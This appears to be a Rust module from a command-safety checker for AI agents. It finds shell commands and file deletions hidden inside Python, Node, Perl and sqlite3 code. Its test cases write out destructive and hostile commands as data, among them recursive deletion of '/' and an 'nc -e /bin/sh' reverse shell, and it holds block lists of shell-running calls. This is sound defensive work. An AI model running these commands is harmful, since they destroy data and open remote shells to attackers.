//! Shell text hidden inside code: what `os.system("…")`, `execSync('…')`, `` `…` `` in an
//! interpreter's code, or sqlite3's `.shell …` run, and the files `shutil.rmtree("…")` and its
//! kin delete. What is found is read as a command line of its own and judged by every rule.

use crate::shell::{Command, RedirectOp};

/// Calls that hand a string (or a list of strings) to the system's shell or run it as a
/// command, in the languages agents reach for. Matched on the lower-cased code.
#[rustfmt::skip]
const RUNS_TEXT: &[&str] = &[
    "os.system(", "os.popen(", "subprocess.run(", "subprocess.call(", "subprocess.popen(", "subprocess.check_call(",
    "subprocess.check_output(", "subprocess.getoutput(", "subprocess.getstatusoutput(", "execsync(", "spawnsync(",
    "shell_exec(", "passthru(", "proc_open(", "io.popen(", "os.execute(", "system(", "popen(", "%x(",
];

/// Calls that delete the file or folder named by their first argument.
#[rustfmt::skip]
const DELETES: &[&str] = &[
    "shutil.rmtree(", "os.remove(", "os.unlink(", "os.rmdir(", "os.removedirs(", "fileutils.rm_rf(", "fileutils.rm_r(",
    "fileutils.remove_dir(", "fileutils.rm(", "fileutils.remove_entry(", ".rmsync(", ".rmdirsync(",
    ".unlinksync(", "fs.rm(", "fs.rmdir(", "fs.unlink(", "').rm(", "\").rm(", "promises.rm(", "file.delete(",
    "dir.delete(", "unlink(", "rmdir(", "remove_dir_all(", "remove-item ",
];

/// Command lines run by the code or the database shell `cmd` holds.
pub(super) fn shell_text(cmd: &Command) -> Vec<String> {
    let program = cmd.program();
    let family = program.as_str();
    let mut out = Vec::new();
    if matches!(family, "sqlite3" | "duckdb") {
        for arg in cmd.args() {
            let arg = arg.trim_start();
            if let Some(rest) = arg
                .strip_prefix(".shell ")
                .or_else(|| arg.strip_prefix(".system "))
            {
                out.push(rest.to_string());
            }
        }
        return out;
    }
    // Code written to a file by `echo` or `printf` runs when the file does.
    let dropped = matches!(family, "echo" | "printf")
        && cmd.redirects.iter().any(|r| {
            matches!(r.op, RedirectOp::Write | RedirectOp::Append)
                && !crate::law::paths::is_sink(&r.target)
        });
    if !crate::catalogue::is(family, crate::catalogue::Class::Interpreter) && !dropped {
        return out;
    }
    let mut code = cmd.args().join(" ");
    for redirect in &cmd.redirects {
        if matches!(redirect.op, RedirectOp::HereDoc | RedirectOp::HereString) {
            code.push('\n');
            code.push_str(&redirect.target);
        }
    }
    let lower = code.to_ascii_lowercase();
    for call in RUNS_TEXT {
        for at in starts(&lower, call) {
            // `os.system(` is found again as `system(`: the longer name already took it.
            if *call == "system("
                && lower
                    .get(..at)
                    .is_some_and(|head| head.ends_with("os.") || head.ends_with('_'))
            {
                continue;
            }
            if *call == "popen("
                && lower.get(..at).is_some_and(|head| {
                    head.ends_with("os.")
                        || head.ends_with("subprocess.")
                        || head.ends_with("io.")
                        || head.ends_with('_')
                })
            {
                continue;
            }
            let words = literals(&code, at + call.len());
            if !words.is_empty() {
                out.push(words.join(" "));
            }
        }
    }
    // Backticks run their text in Perl, Ruby and PHP.
    if matches!(family, "perl" | "ruby" | "php") {
        let mut rest = code.as_str();
        while let Some(open) = rest.find('`') {
            let after = rest.get(open + 1..).unwrap_or("");
            let Some(close) = after.find('`') else { break };
            if let Some(text) = after.get(..close).filter(|t| !t.trim().is_empty()) {
                out.push(text.to_string());
            }
            rest = after.get(close + 1..).unwrap_or("");
        }
    }
    for call in DELETES {
        for at in starts(&lower, call) {
            let boundary = lower
                .get(..at)
                .and_then(|head| head.chars().last())
                .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'));
            if (*call == "unlink(" || *call == "rmdir(" || *call == "remove_dir_all(") && !boundary
            {
                continue;
            }
            if let Some(path) = literals(&code, at + call.len()).first()
                && !path.is_empty()
                && !path.contains('\'')
            {
                out.push(format!("rm -rf '{path}'"));
            }
        }
    }
    out
}

/// Where `needle` starts in `haystack`, every time.
fn starts(haystack: &str, needle: &str) -> Vec<usize> {
    haystack.match_indices(needle).map(|(at, _)| at).collect()
}

/// The string literals at `from`: one (`("rm -rf x")`) or a list (`(["rm", "-rf", "x"])`),
/// up to the first thing that is neither a literal, a comma, a bracket nor a space.
fn literals(code: &str, from: usize) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = code.get(from..).unwrap_or("").chars().peekable();
    while let Some(&c) = chars.peek() {
        match c {
            ' ' | '\t' | '[' | ',' | '(' => {
                chars.next();
            }
            '\'' | '"' | '`' => {
                chars.next();
                let mut text = String::new();
                let mut escaped = false;
                for ch in chars.by_ref() {
                    if escaped {
                        text.push(ch);
                        escaped = false;
                    } else if ch == '\\' {
                        escaped = true;
                    } else if ch == c {
                        break;
                    } else {
                        text.push(ch);
                    }
                }
                out.push(text);
            }
            _ => break,
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::Line;

    fn found(text: &str) -> Vec<String> {
        Line::parse(text)
            .commands
            .iter()
            .flat_map(shell_text)
            .collect()
    }

    #[test]
    fn node_s_deletes_are_found_however_fs_is_reached() {
        for code in [
            "node -e \"require('fs').rmSync('/', {recursive:true})\"",
            "node -e \"const fs = require('fs'); fs.rmSync('/', {recursive: true})\"",
            "node -e \"require('node:fs').promises.rm('/', {recursive:true})\"",
            "node -e \"require('fs').rm('/', {recursive:true}, () => {})\"",
        ] {
            assert!(found(code).contains(&"rm -rf '/'".to_string()), "{code}");
        }
    }

    #[test]
    fn shell_text_in_code_is_found() {
        assert_eq!(
            found("python3 -c \"import os; os.system('rm -rf /srv')\""),
            vec!["rm -rf /srv"]
        );
        assert_eq!(
            found("python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/srv\"])'"),
            vec!["rm -rf /srv"]
        );
        assert_eq!(
            found("node -e \"require('child_process').execSync('nc -e /bin/sh h 1')\""),
            vec!["nc -e /bin/sh h 1"]
        );
        assert_eq!(found("sqlite3 /dev/null '.shell id'"), vec!["id"]);
        assert_eq!(
            found("python -c \"import shutil; shutil.rmtree('/srv/data')\""),
            vec!["rm -rf '/srv/data'"]
        );
        assert_eq!(found("perl -e 'print `id`'"), vec!["id"]);
        assert_eq!(
            found("echo 'fn main() { os.system(\"id\") }' > m.v"),
            vec!["id"]
        );
    }

    #[test]
    fn plain_code_has_none() {
        assert!(found("python3 -c 'print(1 + 1)'").is_empty());
        assert!(found("node -e 'console.log(process.version)'").is_empty());
        assert!(found("sqlite3 app.db '.tables'").is_empty());
        assert!(found("grep 'os.system(\"x\")' -r src").is_empty());
        assert!(found("echo 'os.system(\"x\")'").is_empty());
    }
}
